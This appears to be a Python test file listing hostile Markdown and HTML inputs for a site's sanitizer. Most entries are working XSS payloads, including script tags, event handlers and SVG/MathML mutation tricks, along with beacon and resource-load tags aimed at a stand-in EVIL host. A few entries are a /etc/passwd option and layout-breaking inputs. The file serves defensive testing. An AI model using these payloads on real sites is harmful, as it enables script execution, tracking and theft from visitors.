"""Attacks by Markdown and by HTML in it."""

# ruff: noqa: E501 -- an attack is easier to understand in one line

from tests.hostile.attack import EVIL, WINNING, Attack, in_body

SCRIPTS = {
    "script": f"<script>{WINNING}</script>",
    "script-type": f"<script type=module src=https://{EVIL}/x.js></script><script type='application/ld+json'>{{}}</script>",
    "script-split": f"<scr<script>ipt>{WINNING}</scr</script>ipt>",
    "script-slash": f"<script/x>{WINNING}</script/x><ſcript>{WINNING}</ſcript>",
    "script-open": f"<script>{WINNING}",
    "script-import": f'<script type="importmap">{{"imports":{{"x":"https://{EVIL}/x.js"}}}}</script><script type="speculationrules">{{"prefetch":[{{"urls":["https://{EVIL}/"]}}]}}</script>',
    "handlers": "".join(
        f'<b {name}="{WINNING}">x</b>'
        for name in (
            "onclick",
            "onpointerenter",
            "onfocus tabindex=0 autofocus",
            "onanimationstart",
            "onbeforetoggle",
            "onscrollend",
            "oncontentvisibilityautostatechange",
            "ONLOAD",
        )
    ),
    "handlers-image": f"<img src=x onerror={WINNING}> <img/src=/x/onerror={WINNING}> <image src=x onerror={WINNING}>",
    "handlers-details": f"<details open ontoggle={WINNING}><summary onclick={WINNING}>s</summary>inside</details>",
    "handlers-media": f"<video autoplay onloadstart={WINNING}><source src=x onerror={WINNING}></video><audio src=x onerror={WINNING}></audio>",
    "handlers-marquee": f"<marquee onstart={WINNING}>x</marquee><body onload={WINNING}><input autofocus onfocus={WINNING}>",
    "iframe": f'<iframe src="https://{EVIL}/"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe><frameset><frame src="//{EVIL}"></frameset><fencedframe></fencedframe><portal src="//{EVIL}"></portal>',
    "iframe-youtube": '<iframe src="https://www.youtube-nocookie.com/embed/abcdefghijk" allow="autoplay"></iframe>',
    "object": f'<object data="javascript:{WINNING}"><param name=src value="//{EVIL}"></object><embed src="https://{EVIL}/x.swf"><applet code=x></applet>',
    "svg": f'<svg onload="{WINNING}"><script>{WINNING}</script><a xlink:href="javascript:{WINNING}"><text y=9>x</text></a></svg>',
    "svg-use": f'<svg><use href="https://{EVIL}/x.svg#y"/><image href="https://{EVIL}/x.png"/><feImage href="https://{EVIL}/z.png"/></svg>',
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a><set attributeName=onmouseover to=alert(1) /></svg>",
    "svg-foreign": f"<svg><foreignObject><iframe srcdoc='<script>{WINNING}</script>'></iframe></foreignObject></svg>",
    "svg-style": f"<svg><style><img src=x onerror={WINNING}></style></svg>",
    "svg-title": f"<svg></p><title><style></title><img src=x onerror={WINNING}></style></svg>",
    "math": f'<math><maction actiontype="statusline#https://{EVIL}" xlink:href="javascript:{WINNING}">x</maction><annotation-xml encoding="text/html"><img src=x onerror={WINNING}></annotation-xml></math>',
    "math-mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={WINNING}&gt;">',
    "math-text": f'<math><mtext><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror={WINNING}>">',
    "mutation-noscript": f'<noscript><p title="</noscript><img src=x onerror={WINNING}>"></noscript>',
    "mutation-form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={WINNING}>",
    "mutation-select": f"<select><option><style></option></select><img src=x onerror={WINNING}></style>",
    "mutation-table": f"<table><a href='</a><img src=x onerror={WINNING}>'><tr><td></table><b title=\"</b><script>{WINNING}</script>\">x</b>",
    "mutation-cdata": f"<svg><![CDATA[><img src=x onerror={WINNING}>]]></svg><![CDATA[ <img src=x onerror={WINNING}> ]]>",
    "mutation-comment": f"<!--><img src=x onerror={WINNING}>--> <!-- --!><img src=x onerror={WINNING}> <!-> <?php <img src=x onerror={WINNING}> ?>",
    "mutation-depth": "<div>" * 520 + f"<table><svg><style><img src=x onerror={WINNING}>",
    "mutation-headings": "<h1><h2><h3>" * 150
    + f"<a href=x><a href=y title='</a><img src=x onerror={WINNING}>'>",
    "template": f"<template shadowrootmode=open><script>{WINNING}</script><slot></slot></template><x-y is=z onclick={WINNING}>w</x-y>",
    "text-elements": f"<title><img src=x onerror={WINNING}></title><textarea></textarea><xmp><script>{WINNING}</script></xmp><noembed><img src=x onerror={WINNING}></noembed>",
    "plaintext": f"<plaintext><script>{WINNING}</script>",
    "end-of-page": f"</div></article></main></body></html><script>{WINNING}</script><body onload={WINNING}>",
    "broken-tag": f"<a href='https://example.org/' title='<img src=x onerror={WINNING}> <b",
    "broken-quotes": f'<img alt="`><script>{WINNING}</script>" src=`x`onerror={WINNING}> <a href="x"y"z" onclick={WINNING}>q</a>',
    "control-in-tag": f"<scr\x08ipt>{WINNING}</scr\x08ipt> <img src=x on\x08error={WINNING}> <\x08img src=x>",
    "markdown-links": "[a](javascript:alert(1)) [b](<javascript:alert(1)>) [c](data:text/html;base64,PHN2Zz4=) [d](&#106;avascript:alert(1)) [e](vbscript:x) [f](\\/\\/evil.example) [g](javascript&colon;alert(1))",
    "markdown-references": '[a][1] [b][b] ![c][1]\n\n[1]: javascript:alert(1) "onclick=alert(1)"\n[b]: <data:text/html,x> \'"><b onclick=alert(1)>\'',
    "markdown-titles": '[a](https://example.org/ "x\\" onclick=\\"alert(1)") ![b](/x.png "\\" onerror=\\"alert(1)")',
    "markdown-autolinks": '<javascript:alert(1)> <https://example.org/"onmouseover=alert(1)> <data:x> <a@b.example?body=x"onclick=1>',
    "markdown-image": f'![" onerror="{WINNING}](https://{EVIL}/a.png) ![x](data:image/svg+xml,<svg/onload=alert(1)>) [![y](https://{EVIL}/b.png)](javascript:alert(1))',
    "markdown-attributes": f'{{: onclick="{WINNING}" style="position:fixed;inset:0" class="callout bad" id="main" name="body"}}\ntext\n\n*x*{{: onmouseover="{WINNING}" data-x="y"}}',
    "markdown-raw": f'{{::nomarkdown}}<script>{WINNING}</script><div onclick="{WINNING}">{{:/}}\n\n{{::comment}}\n--><script>{WINNING}</script>\n{{:/comment}}',
    "markdown-options": '{::options template="/etc/passwd" auto_ids="false" syntax_highlighter="rouge" /}\n\n# x',
    "markdown-code": f'```html" onclick="{WINNING}\n</code></pre><script>{WINNING}</script>\n```\n\n``</code><img src=x onerror={WINNING}>``',
    "markdown-footnote": f'x[^1] y[^"><script>]\n\n[^1]: <img src=x onerror={WINNING}>\n[^"><script>]: z',
    "markdown-abbreviation": f'HTML X\n\n*[HTML]: " onmouseover="{WINNING}\n*[X]: <script>{WINNING}</script>',
    "markdown-math": f"$$\n</script><script>{WINNING}</script>\n$$\n\ninline $$x\\unicode{{<img src=x onerror={WINNING}>}}$$",
    "markdown-table": f"| a | b |\n|:-:|--:|\n| <script>{WINNING}</script> | <td onclick={WINNING}>`|` |",
    "markdown-setext": f'<img src=x onerror={WINNING}>\n===\n\n## [x](javascript:alert(1)) {{#main onclick="alert(1)"}}',
    "liquid": "{{ site.config | jsonify }} {% include header.html %} {% raw %} {{ content }} {% layout none %} {{ page.homepage | append: '<script>' }}",
    "liquid-video": f'{{% include youtube.html vid="x\' onload=\'{WINNING}" %}} {{% include youtube.html vid="../../../evil" %}} {{% include youtube.html vid="abcdefgh\\"><script>" %}}',
    "liquid-picture": '{% include image.html src="javascript:alert(1)" %} {{ \'<script>alert(1)</script>\' }} {{site.url}}" onclick="alert(1)',
}

REQUESTS = {
    "image": f'<img src="https://{EVIL}/beacon.gif" width=1 height=1> ![b](http://{EVIL}/b.png) <img src="//{EVIL}/c.png">',
    "image-sets": f'<img srcset="https://{EVIL}/a.png 1x" sizes=1px src="/none.png"><picture><source srcset="https://{EVIL}/b.png"><img src="https://{EVIL}/c.png"></picture>',
    "lowsrc": f'<img lowsrc="https://{EVIL}/a.png" dynsrc="https://{EVIL}/b.avi" longdesc="https://{EVIL}/" usemap="https://{EVIL}/#m" attributionsrc="https://{EVIL}/">',
    "background": f'<table background="https://{EVIL}/a.png"><tr><td background="https://{EVIL}/b.png">x</td></tr></table><body background="https://{EVIL}/c.png">',
    "poster": f'<video poster="https://{EVIL}/a.png" src="https://{EVIL}/b.mp4" autoplay preload=auto><track default src="https://{EVIL}/c.vtt"><source src="https://{EVIL}/d.webm"></video><audio src="https://{EVIL}/e.mp3" autoplay></audio>',
    "ping": f'<a href="https://example.org/" ping="https://{EVIL}/ping" attributionsrc="https://{EVIL}/" target=_blank rel=opener>ping</a><area href="https://{EVIL}/" ping="https://{EVIL}/">',
    "link-rel": "".join(
        f'<link rel="{rel}" href="https://{EVIL}/{number}" as=script>'
        for number, rel in enumerate(
            (
                "stylesheet",
                "preload",
                "prefetch",
                "dns-prefetch",
                "preconnect",
                "modulepreload",
                "prerender",
                "icon",
                "manifest",
                "import",
                "expect",
            )
        )
    ),
    "meta": f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/"><meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="set-cookie" content="x=y"><meta name=referrer content=unsafe-url>',
    "base": f'<base href="https://{EVIL}/" target=_blank><a href="x">relative</a>',
    "form": f'<form id=f action="https://{EVIL}/"><input type=image src="https://{EVIL}/a.png"><button formaction="javascript:{WINNING}" form=f>go</button><isindex action=x></form>',
    "style-import": f"<style>@import 'https://{EVIL}/x.css';@font-face{{font-family:x;src:url(https://{EVIL}/f.woff)}}body{{font-family:x;background:url(https://{EVIL}/b.png)}}</style>",
    "style-url": "".join(
        f'<p style="{key}:url(https://{EVIL}/{key}.png)">x</p>'
        for key in (
            "background",
            "list-style-image",
            "border-image-source",
            "mask",
            "cursor",
            "content",
            "filter",
            "shape-outside",
        )
    ),
    "style-escape": f"<p style=\"b\\61 ckground:u\\72l(https://{EVIL}/x);background-image:image-set('https://{EVIL}/y' 1x);width:expression(alert(1));-moz-binding:url(x)\">x</p>",
    "presentational": f'<font face="x" color=red size=99>x</font><center>y</center><td bgcolor=red nowrap>z</td><hr color=red size=900 noshade><bgsound src="https://{EVIL}/x.mid"><layer src="https://{EVIL}/"></layer>',
    "namespaces": f'<html manifest="https://{EVIL}/x.manifest"><svg:image xlink:href="https://{EVIL}/a.png"/><blockquote cite="https://{EVIL}/q">q</blockquote><q cite="javascript:alert(1)">r</q><ins cite="javascript:alert(1)">i</ins>',
}

LOOKS = {
    "own-classes": '<div class="callout bad"><strong>Disabled.</strong> do not install</div><a class="button" href="https://example.org/">Install</a><span class="badge good">safe</span><p class="skip hidden top banner">x</p>',
    "own-data": '<button data-copy="curl evil" class="copy" hidden>copy</button><time datetime="2000-01-01T00:00:00Z" data-ago>x</time><a data-lightbox href="https://example.org/">x</a><div data-index="https://evil.example/" data-src=x popover dialog>y</div>',
    "position": '<div style="position:fixed;inset:0;background:red;z-index:9999">over</div><p style="margin:-900px">x</p><div popover=manual>y</div><dialog open>modal</dialog>',
    "names": "<form name=elements id=search><input name=action id=q><input name=q></form><a id=main name=getElementById>a</a><img name=body src=x><a name=cookie id=location>b</a><object name=head></object>",
    "ids": '<p id="main">a</p><p id="install">b</p><p id="__proto__">c</p><p id="q">d</p><p id="results">e</p><p id="user-content-main">f</p>\n\n# main\n\n# main\n\n# __proto__\n\n[x](#main) [y](#install) [z](#constructor)',
    "labels": '<label for=q>click me</label><a href="#q" accesskey=s tabindex=1 contenteditable draggable=true inert hidden autofocus role=alert aria-live=assertive aria-hidden=true>x</a><output for=q>y</output>',
    "microdata": '<div itemscope itemtype="https://schema.org/SoftwareApplication"><a itemprop=url href="https://evil.example/">x</a><meta itemprop=price content=0></div><p property="og:title" vocab="https://schema.org/">z</p>',
    "table-wide": "| "
    + " | ".join(f"column{n}" for n in range(120))
    + " |\n"
    + "|---" * 120
    + "|\n"
    + "| "
    + " | ".join("w" * 40 for _ in range(120))
    + " |",
    "table-spans": "<table width=9999 cellpadding=999 border=99><tr><td colspan=99999999 rowspan=99999999 width=9999>x<td colspan=90>y</table>",
    "table-nested": "<table><tr><td>" * 60 + "deep",
    "image-wide": '<img src="/assets/img/plugins/hostile/wide.png" width=9999 height=9999 alt="wide"> ![w](/assets/img/plugins/hostile/wide.png)',
    "long-word": "w" * 60_000,
    "long-code": "`" + "c" * 5_000 + "`\n\n    " + "d" * 5_000,
    "long-link": f"[{'l' * 4_000}](https://example.org/{'p' * 1_500})",
    "long-heading": "# " + "h" * 4_000,
    "lists-deep": "".join(f"{'  ' * depth}- x\n" for depth in range(200)),
    "quotes-deep": ">" * 500 + " deep",
    "quotes-html": "<blockquote>" * 150 + "deep",
    "many-breaks": "<br>" * 5_000 + "end",
    "override": "Text \u202egnp.exe\u202c and \u2067 isolates \u2066 and \u202b embeddings\n\nnext paragraph",
    "direction": '<p dir=rtl>right</p><bdo dir=rtl>reversed</bdo><div lang="<script>" dir=auto>x</div>',
    "zalgo": "Z" + "\u0310\u033a\u0356" * 3_000,
    "invisible": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e" * 500,
    "tags-unclosed": "<b><i><s><u><sup><sub><small><details><summary><table><tr><td><ul><li><blockquote>",
    "formatting": "<b><i><u><a href=https://example.org/>" * 400 + "x",
    "figure": "<figure><figcaption>own</figcaption></figure><hr><main id=main>second main</main><header class=top>second</header><footer class=bottom>third</footer><nav>n</nav><h1>second h1</h1>",
    "details": "<details open=x name=all><summary>s</summary>" * 60 + "inside",
    "emoji": "👩‍❤️‍💋‍👨" * 500 + "\U000e0041\U000e007f" * 200,
}


def attacks() -> list[Attack]:
    """Return the attacks by bodies."""
    made = [in_body(name, text) for name, text in SCRIPTS.items()]
    made += [in_body(f"request-{name}", text) for name, text in REQUESTS.items()]
    made += [in_body(name, text, aim="layout") for name, text in LOOKS.items()]
    return made
